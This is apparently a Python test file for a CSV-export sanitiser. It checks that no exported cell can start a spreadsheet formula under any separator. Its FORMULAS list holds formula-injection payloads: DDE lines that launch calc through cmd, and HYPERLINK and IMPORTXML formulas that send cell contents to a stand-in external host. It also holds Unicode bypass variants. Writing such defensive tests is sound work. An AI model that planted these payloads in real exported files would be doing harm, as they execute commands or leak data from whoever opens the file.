"""No cell of a file begins a formula, whatever separator its reader takes."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest

from conversations.core.text.csv_cells import csv_lines, safe_cell

FORMULAS = [
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "|calc",
    "%0A=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://elsewhere.example/?d="&A1,"Open")',
    '=IMPORTXML(CONCAT("https://elsewhere.example/",A2),"//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "\N{ZERO WIDTH SPACE}=1+1",
    "\ufeff=1+1",
    "\N{RIGHT-TO-LEFT OVERRIDE}=1+1",
    '"=1+1',
    "'=1+1",
    "''''=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    "\x7f=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "−1",
    "title;=1+1",
    'title";=1+1',
    "title\t=1+1",
    "title\n=1+1",
    "title\r\n  =1+1",
    ";;=1+1",
]
STARTERS = tuple("=+-@|%＝＋－＠−\t\r")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        ("", ""),
        ("words", "words"),
        ("a = b, c - d; e", "a = b, c - d; e"),
        ("two\r\nlines", "two\nlines"),
        ("a\x00b\x1bc\ud800d", "abcd"),
        (-5, "-5"),
        (Decimal("-0.0000000001"), "-0.0000000001"),
        (Decimal("1E+3"), "1000"),
        (dt.date(2026, 11, 21), "2026-11-21"),
        (dt.datetime(2026, 11, 21, 9, tzinfo=dt.UTC), "2026-11-21T09:00:00+00:00"),
        ("-5", "'-5"),
        ("=1+1", "'=1+1"),
        ("title;=1+1", "title;'=1+1"),
        ("one\n- two", "one\n'- two"),
    ],
)
def test_a_value_becomes_the_text_of_a_cell(value, cell):
    assert safe_cell(value) == cell


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("formula", FORMULAS)
def test_no_reader_finds_a_formula(formula, separator):
    file = "".join(csv_lines(["number", "words", formula], [[1, formula, formula], [formula, 2, 3]]))
    rows = csv.reader(io.StringIO(file, newline=""), delimiter=separator)
    cells = [cell.lstrip('" \N{NO-BREAK SPACE}\N{ZERO WIDTH SPACE}\ufeff') for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(STARTERS)]


def test_a_cell_keeps_its_separators_quotes_and_lines():
    words = 'He said "no, never";\nand left'
    (line,) = csv_lines([words], [])
    assert next(csv.reader(io.StringIO(line, newline=""))) == [words]


def test_a_file_is_written_row_by_row():
    def rows():
        yield [1]
        raise AssertionError("the second row was read before the first was taken")

    lines = csv_lines(["n"], rows())
    assert [next(lines), next(lines)] == ["n\r\n", "1\r\n"]
